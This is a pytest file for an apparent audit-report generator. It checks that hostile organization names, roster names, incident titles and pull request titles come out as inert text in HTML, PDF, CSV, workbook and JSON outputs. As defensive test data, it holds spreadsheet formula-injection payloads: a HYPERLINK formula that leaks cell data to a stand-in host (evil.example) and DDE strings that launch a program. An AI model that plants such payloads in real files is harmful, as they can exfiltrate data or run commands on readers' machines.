"""Injection through a whole run: the demo company with a hostile organization name in params, hostile names in
its HR roster, hostile incident titles in its paging-tool export and hostile pull request titles on GitHub (any
contributor writes one). The package must show all of it as inert text: no script in any HTML, the PDFs' badges
and tables as they should be, no formula in any CSV or workbook cell, and every value read back exactly.
The demo's own package (the session's demo run) is held to the same rules."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import openpyxl
import pytest
import yaml
from auditbook import catalog, cells, layout, locker
from auditbook.demo.environment import DEMO_PARAMS, DEMO_PERIOD
from markup import CSP, FAIL_RGB, HOSTILE_ORGANIZATION, lay_out, margin_strings, parse

FOOTER_LINE = " ".join(HOSTILE_ORGANIZATION[:200].split())  # params report.confidentiality, whitespace collapsed

ROSTER_NAMES = {
    "P001": '=HYPERLINK("http://evil.example/?leak="&A1,"Alice")',
    "P002": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P003": "-2+3",
    "P004": "'quoted name",
}
INCIDENT_TITLES = {"PD-2031": "+cmd|' /C calc'!A0", "PD-2041": "=1+1"}
PULL_TITLES = {("payments-api", 38): '=HYPERLINK("http://evil.example","click")', ("web-app", 11): "\t=1+1"}
CRITERIA = ["CC6.1", "CC7.2", "CC8.1"]


def _rewrite_csv(source: Path, dest: Path, key: str, column: str, values: dict[str, str]) -> None:
    with open(source, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        rows, fields = list(reader), reader.fieldnames
    assert {row[key] for row in rows} >= set(values)
    for row in rows:
        row[column] = values.get(row[key], row[column])
    with open(dest, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fields)
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def hostile_run(demo_env, tmp_path_factory):
    from auditbook.runner import run

    tmp = tmp_path_factory.mktemp("hostile")
    params = yaml.safe_load(DEMO_PARAMS.read_text())
    params["report"]["logo"] = str(DEMO_PARAMS.parent / params["report"]["logo"])  # relative to the demo params
    params["organization"] = HOSTILE_ORGANIZATION
    params["report"]["confidentiality"] = HOSTILE_ORGANIZATION[:200]  # every page footer (a CSS string)
    # Another organization: the demo company's snapshots are not its own, so the alarm history it reads weeks after
    # the quarter is empty; coverage is not this test's topic.
    params["coverage"]["accept"]["CC7.2-ALERT-INCIDENT"] = "alarm history not retained: accepted for this test"
    params["exceptions_file"] = str(DEMO_PARAMS.parent / params["exceptions_file"])
    for settings in params["criteria"].values():
        for name, value in settings.items():
            if isinstance(value, str) and value.startswith("../"):
                settings[name] = str((DEMO_PARAMS.parent / value).resolve())
    cc61, cc72 = params["criteria"]["CC6.1"], params["criteria"]["CC7.2"]
    _rewrite_csv(Path(cc61["hr_roster"]), tmp / "hr-roster.csv", "person_id", "name", ROSTER_NAMES)
    _rewrite_csv(Path(cc72["incident_csv"]), tmp / "incidents.csv", "incident_id", "title", INCIDENT_TITLES)
    cc61["hr_roster"], cc72["incident_csv"] = str(tmp / "hr-roster.csv"), str(tmp / "incidents.csv")
    (tmp / "params.yaml").write_text(yaml.safe_dump(params, sort_keys=False))

    repos = demo_env.github.state.repos
    original = {(repo, number): repos[repo].pulls[number].title for repo, number in PULL_TITLES}
    try:
        for (repo, number), title in PULL_TITLES.items():
            repos[repo].pulls[number].title = title
        return run(tmp / "params.yaml", DEMO_PERIOD, CRITERIA, out_dir=tmp / "out")
    finally:  # the session's emulator serves the other tests the demo company as it is
        for (repo, number), title in original.items():
            repos[repo].pulls[number].title = title


def risky_cells(root: Path) -> list[tuple[str, str]]:
    """Cells of the package's CSVs (raw evidence, kept as received, aside) a spreadsheet would run as a formula."""
    found = []
    for path in sorted(root.rglob("*.csv")):
        rel = path.relative_to(root).as_posix()
        if rel.startswith(f"{layout.RAW}/"):
            continue
        with open(path, newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                found += [(rel, cell) for cell in row if cell.startswith(cells.FORMULA_TRIGGERS) and not _number(cell)]
    return found


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def column(root: Path, rel: str, name: str) -> list[str]:
    with open(root / rel, newline="", encoding="utf-8") as fh:
        return [row[name] for row in csv.DictReader(fh)]


def test_the_hostile_run_completes_and_its_package_verifies(hostile_run):
    assert sorted(c.criterion for c in hostile_run.outcomes) == CRITERIA
    assert all(c.error is None and not c.statuses.get("ERROR") for c in hostile_run.outcomes), hostile_run.outcomes
    assert locker.verify(hostile_run.run_dir).ok


def test_no_report_runs_script_and_each_shows_the_organization_as_text(hostile_run):
    root = hostile_run.run_dir
    html_files = sorted((root / layout.REPORTS).glob("*.html"))
    assert [p.stem for p in html_files] == [*CRITERIA, "index"]
    for path in html_files:
        text = path.read_text(encoding="utf-8")
        page = parse(text)
        assert page.tags("script") == [] and "<script" not in text.lower(), path.name
        assert page.csp() == [CSP], path.name
        assert HOSTILE_ORGANIZATION in page.visible_text(), path.name
        assert all(img["src"].startswith(("data:image/png;base64,", "data:image/svg+xml;base64,"))
                   and set(img) <= {"src", "alt", "class"}
                   for img in page.tags("img")), path.name
        footer = margin_strings(page)["bottom-left"]
        assert footer == [f"{FOOTER_LINE} · {HOSTILE_ORGANIZATION} · run {root.name}"], path.name
        assert path.with_suffix(".pdf").read_bytes().startswith(b"%PDF"), path.name
    assert any(parse(p.read_text(encoding="utf-8")).tags("img") for p in html_files)  # the charts are there


@pytest.mark.parametrize("report", ["index", "CC8.1"])
def test_the_pdf_keeps_red_fail_badges_and_its_tables(hostile_run, report):
    laid = lay_out(hostile_run.run_dir / layout.report(report, "html"))
    fails = {rgb for text, rgb in laid.badges if text == "FAIL"}
    assert fails == {FAIL_RGB} and laid.tables_shown >= 1
    footer = "".join(f"{FOOTER_LINE} · {HOSTILE_ORGANIZATION} · run {hostile_run.run_dir.name}".split())
    assert all("".join((m.get("@bottom-left") or "").split()) == footer  # a long footer wraps: spaces go
               for m in laid.margins)


def test_no_csv_cell_of_the_package_is_a_formula(hostile_run):
    root = hostile_run.run_dir
    assert risky_cells(root) == []
    names = column(root, layout.population_csv("hr-roster"), "name")
    assert {cells.neutralise(v) for v in ROSTER_NAMES.values()} <= set(names)
    assert {cells.neutralise(ROSTER_NAMES["P001"])} <= set(column(root, layout.population_csv(
        "access-review-worksheet"), "person"))
    titles = {cells.neutralise(t) for t in PULL_TITLES.values()}
    for rel in [layout.population_csv("github-merged-pulls"), layout.population_csv("change-worksheet"),
                layout.tested_csv("CC8.1-APPROVED")]:
        assert titles <= set(column(root, rel, "title")), rel
    assert {cells.neutralise(t) for t in INCIDENT_TITLES.values()} <= set(column(
        root, layout.population_csv("incidents"), "title"))
    # raw evidence stays byte for byte as received: the roster file the organization gave
    raw_roster = root / layout.RAW / "files" / "hr_roster" / "hr-roster.csv"
    assert ROSTER_NAMES["P002"] in raw_roster.read_text(encoding="utf-8")


def test_every_value_reads_back_exactly(hostile_run):
    root = hostile_run.run_dir
    roster = catalog.read_csv("hr-roster", root / layout.population_csv("hr-roster"))
    assert set(ROSTER_NAMES.items()) <= set(zip(roster["person_id"], roster["name"], strict=True))
    pulls = catalog.read_csv("github-merged-pulls", root / layout.population_csv("github-merged-pulls"))
    assert set(PULL_TITLES.items()) <= {((r, n), t) for r, n, t in zip(pulls["repo"], pulls["number"], pulls["title"],
                                                                        strict=True)}
    incidents = catalog.read_csv("incidents", root / layout.population_csv("incidents"))
    assert set(INCIDENT_TITLES.items()) <= set(zip(incidents["incident_id"], incidents["title"], strict=True))


def test_the_ci_exports_parse_and_carry_every_deviation_exactly(hostile_run):
    """results.junit.xml parses whatever was collected; findings.ocsf.json holds each deviation as the notebook
    recorded it (no spreadsheet neutralising: JSON is not run by anyone)."""
    root = hostile_run.run_dir
    junit = ET.parse(root / layout.JUNIT_XML).getroot()
    assert HOSTILE_ORGANIZATION in junit.get("name") and not list(junit.iter("script"))
    findings = [f for f in json.loads((root / layout.OCSF_FINDINGS).read_text(encoding="utf-8"))
                if f["compliance"]["status"] == "Fail"]  # deviations (a test in ERROR is a Warning)
    recorded = [d for c in CRITERIA
                for d in json.loads((root / layout.criterion_results(c)).read_text())["deviations"]]
    assert [(f["compliance"]["control"], f["resources"][0]["uid"], f["finding_info"]["desc"]) for f in findings] == [
        (d["test_id"], d["resource_id"], d["detail"]) for d in recorded]
    assert {f["metadata"]["tenant_uid"] for f in findings} == {HOSTILE_ORGANIZATION}


def test_the_reviewers_workbook_has_no_formula(hostile_run):
    sheet = openpyxl.load_workbook(hostile_run.run_dir / layout.population_xlsx("access-review-worksheet")).active
    every = [c for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in every if c.data_type == "f"] == []
    alice = [c for c in every if c.value == cells.neutralise(ROSTER_NAMES["P001"])]
    assert alice and {c.data_type for c in alice} == {"s"}


def test_samples_still_tie_to_their_tested_rows_as_written(hostile_run):
    root = hostile_run.run_dir
    results = json.loads((root / layout.RESULTS_JSON).read_text())
    tied = 0
    for test in (t for c in results["criteria"] for t in c["tests"] if t["sample"]):
        with open(root / test["tested_population"]["csv"], newline="", encoding="utf-8") as fh:
            tested = list(csv.DictReader(fh))
        with open(root / test["sample"]["file"], newline="", encoding="utf-8") as fh:
            for row in csv.DictReader(fh):
                assert tested[int(row.pop("population_row")) - 1] == row, test["id"]
                tied += 1
    assert tied


def test_the_demo_package_holds_no_formula_and_no_script(demo_run):
    """The session's demo run, as `make demo` makes it: the same rules hold for every file of it."""
    root = demo_run.run_dir
    assert risky_cells(root) == []
    for path in sorted((root / layout.REPORTS).glob("*.html")):
        page = parse(path.read_text(encoding="utf-8"))
        assert page.tags("script") == [] and page.csp() == [CSP], path.name
    for path in sorted(root.rglob("*.xlsx")):
        sheet = openpyxl.load_workbook(path).active
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], path.name
